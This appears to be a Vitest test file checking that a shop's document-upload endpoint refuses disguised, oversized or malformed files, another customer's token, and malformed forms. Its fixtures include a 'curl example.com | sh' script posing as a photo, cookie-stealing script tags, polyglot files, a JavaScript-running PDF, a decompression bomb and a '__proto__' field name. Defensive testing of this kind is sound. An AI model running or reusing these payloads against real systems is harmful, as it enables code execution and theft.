import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { SentForm } from '../../support/documents/document-desk.ts';
import { forgetDocuments, keptDocuments, sendUpload } from '../../support/documents/document-desk.ts';
import {
  deflated,
  emptyZip,
  jpegOfBytes,
  jpegWithNote,
  madeJpeg,
  madePdf,
} from '../../support/documents/made-files.ts';
import type { TestApp } from '../../support/test-app.ts';
import { createTestApp } from '../../support/test-app.ts';
import { expectRefusal } from '../../support/wrong-values.ts';

let shop: TestApp;
const accessTokens: string[] = [];
const tokens: string[] = [];
let photo: Buffer;

beforeAll(async () => {
  shop = await createTestApp();
  photo = await madeJpeg();
  // Nobody may upload to the shared account of the demo.
  await shop.app.database.query(`update accounts set email = 'own@example.com' where email = 'demo@example.com'`);
  for (const email of ['new@example.com', 'limited@example.com', 'own@example.com']) {
    const { accessToken, user } = await shop.logIn(email);
    accessTokens.push(accessToken);
    tokens.push(user.token);
  }
  await forgetDocuments(shop);
});
afterAll(() => shop.close());

afterEach(async () => {
  expect(await keptDocuments(shop)).toEqual({ files: [], rows: [] });
  const { rows } = await shop.app.database.query(`select 1 from accounts where documents <> '{}'`);
  expect(rows).toEqual([]);
});

let sent = 0;
/** Sends the form as one customer after the other, because a single one would exceed the limit. */
function send(form: Omit<SentForm, 'accessToken'>) {
  sent += 1;
  return sendUpload(shop, { accessToken: accessTokens[sent % 3] ?? '', ...form });
}

describe('a file that is neither photo nor PDF is refused, whatever its name, and nothing of it is stored', () => {
  test.each([
    ['a script that is called a photo', () => Buffer.from('#!/bin/sh\ncurl example.com | sh\n')],
    ['a page that is called a photo', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['an empty file', () => Buffer.alloc(0)],
    ['a photo that is an archive', () => Buffer.concat([photo, emptyZip])],
    ['a photo that is a page', () => jpegWithNote('<script>alert(document.cookie)</script>')],
    ['a photo that is a PDF', () => Buffer.concat([photo, madePdf()])],
    ['a GIF that is an archive', () => Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(20), emptyZip])],
    ['a PDF that runs a script', () => madePdf([], '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a PDF that blows up', () => madePdf([deflated('', Buffer.alloc(200_000_000))])],
  ])('%s', async (_what, made) => {
    const { status, body } = await send({ fields: { type: 'passport' }, files: [{ bytes: await made() }] });
    expectRefusal(status, body, 'FILE_NOT_SUPPORTED');
    const text = `select details from audit_entries where event = 'document_refused' order by at, id`;
    const { rows } = await shop.app.database.query<{ details: object }>(text);
    expect(rows.at(-1)?.details).toMatchObject({ field: 'doc_passport' });
  });

  test('a second side that is no photo', async () => {
    const files = [{ bytes: photo }, { bytes: Buffer.from('x') }];
    const { status, body } = await send({ fields: { type: 'funding' }, files });
    expectRefusal(status, body, 'FILE_NOT_SUPPORTED');
  });
});

describe('a malformed form is refused, and nothing of it is stored', () => {
  const type = 'passport';

  test.each([
    ['without a type', {}, ['files'], 'type'],
    ['of another type', { type: 'visa' }, ['files'], 'type'],
    ['without a file', { type }, [], 'files'],
    ['with a file under another name', { type }, ['file'], 'files'],
    ['with a file under a similar-looking name', { type }, ['fıles'], 'files'],
    ['with two passports', { type }, ['files', 'files'], 'files'],
    ['with three sides', { type: 'funding' }, ['files', 'files', 'files'], 'files'],
    ['with a side of a passport', { type, side: 'front' }, ['files'], 'side'],
    ['with one side for two files', { type: 'funding', side: 'front' }, ['files', 'files'], 'side'],
    ['with an unknown side', { type: 'funding', side: 'left' }, ['files'], 'side'],
  ] as const)('%s', async (_what, fields, names, field) => {
    const { status, body } = await send({ fields, files: names.map((name) => ({ bytes: photo, field: name })) });
    expectRefusal(status, body, 'VALIDATION');
    expect(body).toMatchObject({ error: { fields: { [field]: expect.any(String) as unknown } } });
  });

  test('with the name of an inherited property', async () => {
    const { status, body } = await send({ fields: { type }, files: [{ bytes: photo, field: '__proto__' }] });
    expectRefusal(status, body, 'MALFORMED_REQUEST', 'VALIDATION');
  });

  test('with more text fields than allowed', async () => {
    const { status, body } = await send({ fields: { type, a: '1', b: '2', c: '3' }, files: [{ bytes: photo }] });
    expectRefusal(status, body, 'BODY_TOO_LARGE');
  });

  test('with a text of a megabyte', async () => {
    const fields = { type, token: 'x'.repeat(1_000_000) };
    const { status, body } = await send({ fields, files: [{ bytes: photo }] });
    expectRefusal(status, body, 'BODY_TOO_LARGE');
  });

  test('with the token of somebody else', async () => {
    const mine = sent + 1;
    const fields = { type, token: tokens[(mine + 1) % 3] ?? '' };
    const { status, body } = await send({ fields, files: [{ bytes: photo }] });
    expectRefusal(status, body, 'FORBIDDEN');
  });

  test('with a file of 2.1 MB, and with one byte more than 2 MB', async () => {
    for (const bytes of [
      await jpegOfBytes(2_200_000),
      Buffer.concat([photo, Buffer.alloc(2 * 1024 * 1024 + 1 - photo.length)]),
    ]) {
      const { status, body } = await send({ fields: { type }, files: [{ bytes }] });
      expectRefusal(status, body, 'FILE_TOO_LARGE');
      expect(body).toMatchObject({ error: { message: expect.stringContaining('2 MB') as unknown } });
    }
  });

  test('with three files of 2 MB', async () => {
    const bytes = Buffer.alloc(2 * 1024 * 1024);
    const files = [{ bytes }, { bytes }, { bytes }];
    const { status, body } = await send({ fields: { type: 'funding' }, files });
    expectRefusal(status, body, 'FILE_TOO_LARGE');
  });

  test.each([
    'application/json',
    'text/plain',
    'application/x-www-form-urlencoded',
    'application/octet-stream',
    'image/jpeg',
  ])('as %s', async (contentType) => {
    const headers = { authorization: `Bearer ${accessTokens[0] ?? ''}`, 'content-type': contentType };
    const response = await fetch(`${shop.url}/api/accounts/upload`, {
      method: 'POST',
      body: '{"type":"passport"}',
      headers,
    });
    expectRefusal(response.status, await response.json(), 'UNSUPPORTED_MEDIA_TYPE');
  });

  test.each(['multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=x'])(
    'as %s without any parts',
    async (contentType) => {
      const headers = { authorization: `Bearer ${accessTokens[1] ?? ''}`, 'content-type': contentType };
      const response = await fetch(`${shop.url}/api/accounts/upload`, {
        method: 'POST',
        body: 'no parts here',
        headers,
      });
      expectRefusal(response.status, await response.json(), 'MALFORMED_REQUEST', 'VALIDATION');
    },
  );

  test('that breaks off', async () => {
    const headers = {
      authorization: `Bearer ${accessTokens[2] ?? ''}`,
      'content-type': 'multipart/form-data; boundary=x',
    };
    const body = `--x\r\nContent-Disposition: form-data; name="files"; filename="a.jpg"\r\n\r\n${'y'.repeat(1_000)}`;
    const response = await fetch(`${shop.url}/api/accounts/upload`, { method: 'POST', body, headers });
    expectRefusal(response.status, await response.json(), 'MALFORMED_REQUEST');
  });
});

test('none of it was a fault of the server, and no file name is in the log', () => {
  expect(shop.log.filter(({ level }) => level === 'error' || level === 'fatal')).toEqual([]);
  expect(JSON.stringify(shop.log)).not.toContain('photo.jpg');
});
